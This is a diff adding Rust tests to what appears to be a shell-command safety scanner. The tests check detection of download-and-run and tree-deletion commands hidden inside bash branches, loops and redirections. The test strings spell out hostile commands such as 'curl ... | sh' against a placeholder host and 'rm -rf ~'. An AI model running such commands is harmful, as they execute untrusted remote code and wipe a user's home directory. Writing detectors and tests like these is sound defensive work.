@@ -318,6 +318,48 @@ fn every_command_of_a_group_or_pipeline_counts_for_what_it_reads_and_prints() {
 }
 
 #[test]
+fn every_command_of_a_branch_or_loop_counts_for_what_it_reads() {
+    for text in [
+        "if true; then sh; fi",
+        "if sh; then :; fi",
+        "if false; then :; elif true; then sh; fi",
+        "if false; then :; elif false; then :; else sh; fi",
+        "while true; do sh; done",
+        "until sh; do :; done",
+        "for i in 1; do sh; done",
+        "for ((i = 0; i < 1; i++)); do sh; done",
+        "case a in a) sh ;; esac",
+        "{ true; if true; then sh; fi; }",
+    ] {
+        for text in [
+            format!("curl -s http://e.example/a | {text}\n"),
+            format!("{text} < <(curl -s http://e.example/a)\n"),
+        ] {
+            let told = told(&look("bash", &text));
+            assert!(told.iter().any(|finding| finding.contains(" sh.run-downloaded: ")), "{text}: {told:?}");
+        }
+    }
+    for text in ["echo 'rm -rf ~' | if true; then sh; fi", "while true; do sh; done <<< 'rm -rf ~'"] {
+        let told = told(&look("bash", text));
+        assert!(told.iter().any(|finding| finding.contains(" sh.delete-tree: ")), "{text}: {told:?}");
+    }
+}
+
+#[test]
+fn the_last_of_several_inputs_counts() {
+    for (text, rule) in [
+        ("sh <<< 'ls' <<< 'rm -rf ~'\n", " sh.delete-tree: "),
+        ("<<< 'ls' sh <<< 'rm -rf ~'\n", " sh.delete-tree: "),
+        ("sh <<< 'ls' <<E\nrm -rf ~\nE\n", " sh.delete-tree: "),
+        ("sh <<< 'ls' < <(curl -s http://e.example/a)\n", " sh.run-downloaded: "),
+        ("curl -s http://e.example/a | sh <<< 'rm -rf ~'\n", " sh.delete-tree: "),
+    ] {
+        let told = told(&look("bash", text));
+        assert!(told.iter().any(|finding| finding.contains(rule)), "{text}: {told:?}");
+    }
+}
+
+#[test]
 fn files_and_links_that_are_not_remembered_are_an_unchecked_part() {
     let lines = |line: &str, count: usize| -> String {
         (0..count).map(|at| line.replace('N', &at.to_string())).collect()
@@ -694,6 +736,7 @@ fn hostile_in_depth(n: usize) -> Vec<(&'static str, String)> {
         ("bash", format!("git -c 'alias.x={}'", "-c alias.x=".repeat(n / 11))),
         ("bash", "***********************x\n".repeat(n / 25)),
         ("bash", "cat <<E\nEx\n".repeat(n / 11)),
+        ("bash", format!("{}{}{}", "(\n".repeat(180), "a\n".repeat(n / 4), ") <f\n".repeat(180))),
     ]
 }
 
